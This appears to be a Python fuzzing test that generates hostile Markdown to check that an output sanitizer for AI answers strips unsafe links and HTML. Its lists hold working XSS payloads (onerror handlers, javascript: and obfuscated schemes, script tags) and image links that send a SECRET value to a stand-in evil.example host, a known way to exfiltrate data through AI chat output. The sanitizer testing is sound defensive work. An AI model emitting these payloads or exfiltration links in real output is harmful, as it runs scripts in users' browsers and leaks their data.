"""A grammar of hostile Markdown for differential fuzzing of the output sanitizer.

``hostile(rng)`` builds one answer from containers inside containers (lists, quotes), fences,
HTML blocks, tables, definitions, links, images, autolinks, raw tags, entities, code spans,
Unicode whitespace and line ends, and padding that puts constructs near the engine's cuts.
``check(text)`` sanitizes it whole and streamed, and returns what the renderers found unsafe.
"""

from __future__ import annotations

import random

from render_oracle import unsafe_reasons

from mistral_secure._output import OutputSanitizer, sanitize_stream

HOSTS = frozenset({"ok.example"})
SANITIZER = OutputSanitizer(allowed_hosts=HOSTS, redact_pii=False, max_segment=512)

SPACES = [" ", "  ", "\t", "\u00a0", "\f", "\v", "\u2028", "\u3000", "\u200b", ""]
NEWLINES = ["\n", "\r\n", "\r", "\n\n", "\u2028", "\u0085"]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "javascript&colon;",
    "&#106;avascript:",
    "data:text/html,",
    "vbscript:",
    "https:",
    "http:",
    "HTTPS:",
    "https&colon;",
    "mailto:",
    "",
]
HOSTS_WRITTEN = [
    "//evil.example",
    "//ok.example",
    "//ok.example.evil.example",
    "//evil.example\\@ok.example",
    "//ok.example@evil.example",
    "//ok.example\\.evil.example",
    "//evil.example&sol;ok.example",
    "//evil&#46;example",
    "//ok.example&quest;@evil.example",
    "//ok.example&num;@evil.example",
    "//0x7f.1",
    "//ok.example\u00a0.evil.example",
    "//ok.example%2eevil.example",
    "//ｅｖｉｌ.example",
    "//ok。example",
    "//evil.example:443",
    "",
]
PATHS = ["/p?q=SECRET", "/x.png", "", "/a b", "/(x)", "/a)b", '/"t"', "/<x>", "/%20"]
TAGS = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://evil.example/">x</a>',
    "<a href=https://ok.example\\@evil.example>x</a>",
    "<iframe src=//evil.example>",
    "<b onclick=x>b</b>",
    "<div>",
    "</div>",
    "<!-- c -->",
    "<!--",
    "-->",
    "<?php x ?>",
    "<![CDATA[x]]>",
    "<img",
    " src=//evil.example/i.png",
    ">",
    "<details open ontoggle=alert(1)>",
    "<p style=x>",
    "<math><mtext><img src=x onerror=alert(1)>",
]
WORDS = [
    "a",
    "x y",
    "word",
    "Vec<String>",
    "a < b",
    "|",
    "\\",
    "*",
    "_",
    "!",
    "&",
    "&amp;",
    ":",
    "]:",
]


def _url(rng: random.Random) -> str:
    return rng.choice(SCHEMES) + rng.choice(HOSTS_WRITTEN) + rng.choice(PATHS)


def _inline(rng: random.Random, depth: int = 0) -> str:
    r = rng.random()
    label = _inline(rng, depth + 1) if depth < 2 and rng.random() < 0.2 else rng.choice(WORDS)
    if r < 0.14:
        title = rng.choice(["", ' "t"', " 't'", " (t)"])
        return f"[{label}]({rng.choice(['', '<'])}{_url(rng)}{title})"
    if r < 0.26:
        return f"![{label}]({_url(rng)})"
    if r < 0.32:
        return f"[{label}][{rng.choice(['r', 'R', 'ẞ', 'ss', ''])}]"
    if r < 0.36:
        return f"![{label}][{rng.choice(['r', 'R', ''])}]"
    if r < 0.44:
        return "<" + _url(rng) + rng.choice(["", "\u00a0x", " x", "\u3000"]) + ">"
    if r < 0.58:
        return rng.choice(TAGS)
    if r < 0.68:
        ticks = "`" * rng.randint(1, 3)
        return (
            ticks + rng.choice(["", " "]) + _inline(rng, depth + 1) + rng.choice([ticks, "`", ""])
        )
    if r < 0.74:
        return _url(rng)
    if r < 0.78:
        return "www." + rng.choice(["evil.example", "ok.example"]) + rng.choice(PATHS)
    if r < 0.84:
        return rng.choice(
            ["&lt;", "&#60;", "&#x3c;", "&colon;", "&sol;", "&NewLine;", "&Tab;", "&"]
        )
    if r < 0.9:
        return rng.choice(["[", "]", "(", ")", "](", "![", "<", ">", "`", "\\"])
    return rng.choice(WORDS) + rng.choice(SPACES)


def _line(rng: random.Random) -> str:
    parts = [_inline(rng) for _ in range(rng.randint(1, 5))]
    return rng.choice(SPACES).join(parts) if rng.random() < 0.5 else " ".join(parts)


def _block(rng: random.Random, depth: int = 0) -> str:
    r = rng.random()
    nl = rng.choice(NEWLINES)
    if r < 0.12 and depth < 3:
        marker = rng.choice(["- ", "* ", "1. ", "2) ", "-\t", "+ "])
        inner = _block(rng, depth + 1).replace("\n", "\n" + " " * rng.choice([2, 3, 4, 5]))
        return marker + inner
    if r < 0.24 and depth < 3:
        inner = _block(rng, depth + 1)
        lead = rng.choice(["> ", ">", "> > "])
        return lead + inner.replace("\n", "\n" + rng.choice([lead, ""]))
    if r < 0.34:
        fence = rng.choice(["```", "~~~", "````", "``"])
        close = rng.choice([fence, "", "```", "~~~"])
        return f"{fence}{rng.choice(['', 'js', ' `x'])}{nl}{_line(rng)}{nl}{close}"
    if r < 0.44:
        opener = rng.choice(["<div>", "<script>", "<pre>", "<!--", "<details>", "<x-y>", "<p"])
        return opener + rng.choice([nl, " "]) + _line(rng) + rng.choice(["", nl + "</div>", "-->"])
    if r < 0.52:
        cells = " | ".join(_inline(rng) for _ in range(2))
        tail = rng.choice(["", nl + "`x|<img src=x onerror=alert(1)>`"])
        return f"| a | b |{nl}|---|---|{nl}| {cells} |" + tail
    if r < 0.62:
        label = rng.choice(["r", "R", "ss", "ẞ", "a\\]"])
        title = rng.choice(["", ' "t"'])
        return f"[{label}]:{rng.choice([' ', nl, ''])}{_url(rng)}{title}"
    if r < 0.68:
        return "    " + _line(rng)
    if r < 0.72:
        return "x" * rng.choice([30, 38, 39, 40, 200, 250, 255, 300, 480, 500, 510]) + _line(rng)
    return _line(rng)


def hostile(rng: random.Random) -> str:
    """One hostile answer."""
    blocks = [_block(rng) for _ in range(rng.randint(1, 4))]
    seps = [rng.choice(NEWLINES) for _ in blocks]
    return "".join(b + s for b, s in zip(blocks, seps, strict=True))


def _list_item(rng: random.Random) -> str:
    marker = rng.choice(["- ", "* ", "1. ", "2) ", "+ "])
    lines = [_line(rng) if rng.random() < 0.5 else "Step: see " + _inline(rng)]
    for _ in range(rng.randint(0, 3)):
        pad = " " * rng.choice([len(marker), len(marker), 3, 4, 1])
        kind = rng.random()
        if kind < 0.3:
            fence = rng.choice(["```", "~~~"])
            lines += [pad + fence + rng.choice(["", "js", "sh"]), pad + _line(rng)]
            lines += [pad + rng.choice([fence, fence, ""])]
        elif kind < 0.5:
            lines.append(pad + rng.choice(["- ", "1. ", "> "]) + _line(rng))
        else:
            lines.append(pad + _line(rng))
    return marker + "\n".join(lines)


def _table_rows(rng: random.Random) -> str:
    rows = ["| a | b |", "|---|---|"]
    rows += [f"| {_inline(rng)} | {_inline(rng)} |" for _ in range(rng.randint(20, 120))]
    return "\n".join(rows)


def long_block(rng: random.Random) -> str:
    """One block of 2-12 KB with no blank line: long lists, tables, quotes, paragraphs, or
    fuzz answers joined. Longer than the engine's parse context, so it is trimmed."""
    size = rng.randint(2048, 12288)
    shape = rng.random()
    parts: list[str] = []
    total = 0
    while total < size:
        if shape < 0.25:
            part = hostile(rng).replace("\r", "\n")
            while "\n\n" in part:
                part = part.replace("\n\n", "\n")
        elif shape < 0.5:
            part = _list_item(rng)
        elif shape < 0.65:
            part = _table_rows(rng) if not parts else f"| {_inline(rng)} | {_inline(rng)} |"
        elif shape < 0.8:
            part = rng.choice(["> ", "> > ", "> - "]) + _line(rng)
        else:
            part = " ".join(rng.choice(["word", "text", "see", _inline(rng)]) for _ in range(12))
        parts.append(part)
        total += len(part) + 1
    sep = rng.choice(["\n", "\n", " "]) if shape >= 0.8 else "\n"
    return sep.join(parts).rstrip("\n") + "\n"


def check(text: str, rng: random.Random | None = None) -> list[str]:
    """Unsafe renders of the sanitized text (whole and, with ``rng``, streamed)."""
    whole = SANITIZER.sanitize(text).text
    reasons = unsafe_reasons(whole, HOSTS, HOSTS)
    if rng is not None:
        chunks, i = [], 0
        while i < len(text):
            n = rng.choice([1, 2, 3, 8, 16, 64])
            chunks.append(text[i : i + n])
            i += n
        streamed = "".join(sanitize_stream(chunks, SANITIZER))
        if streamed != whole:
            reasons.append("stream-differs")
    return reasons


_TABLE_LIKE = [
    "| a | b |",
    "|---|---|",
    "|-|",
    "--- | ---",
    "a | b",
    "| :-- | --: |",
    "|",
    "||",
    "\\|",
    "`a|b` | c",
    "| `x|<img src=x onerror=alert(1)>` |",
]


def fence_item_tail(rng: random.Random) -> str:
    """A long block (2-8 KB, no blank line) ending in tight list items that hold a fence,
    then table-like lines, pipes, and a link or image: where the engine's short context
    reads the text after a closed fence as going on from the item's first line."""
    parts: list[str] = []
    total, size = 0, rng.randint(2048, 8192)
    while total < size:
        part = (
            _list_item(rng)
            if rng.random() < 0.6
            else " ".join(rng.choice(["word", "text", "see", "|"]) for _ in range(12))
        )
        parts.append(part)
        total += len(part) + 1
    for _ in range(rng.randint(1, 3)):
        marker = rng.choice(["- ", "* ", "1. ", "+ "])
        pad = " " * rng.choice([len(marker), len(marker), 1, 3, 4])
        first = rng.choice(["x", "a ``b`", "a | b", "| a |", "`x|`", _inline(rng), "Step:"])
        fence = rng.choice(["```", "~~~", "````"])
        lines = [marker + first, pad + fence + rng.choice(["", "js"]), pad + _line(rng)]
        lines.append(pad + rng.choice([fence, fence, fence, ""]))
        for _ in range(rng.randint(1, 4)):
            lead = rng.choice([pad, pad, "", " "])
            r = rng.random()
            if r < 0.5:
                lines.append(lead + rng.choice(_TABLE_LIKE))
            elif r < 0.75:
                cells = " | ".join(_inline(rng) for _ in range(rng.randint(1, 3)))
                lines.append(lead + rng.choice(["| ", ""]) + cells + rng.choice([" |", ""]))
            else:
                lines.append(lead + _line(rng))
        parts.append("\n".join(lines))
    tail = rng.choice(
        [
            "[x](javascript:alert(1))",
            "![x](https://evil.example/p.png)",
            "[x](https://evil.example/p?q=SECRET)",
            "<img src=x onerror=alert(1)>",
            "| ![x](https://evil.example/i.png) | [y](javascript:alert(1)) |",
        ]
    )
    parts.append(rng.choice(["", " ", "  ", "| "]) + tail)
    return "\n".join(parts) + rng.choice(["\n", "", "\n```\n"])
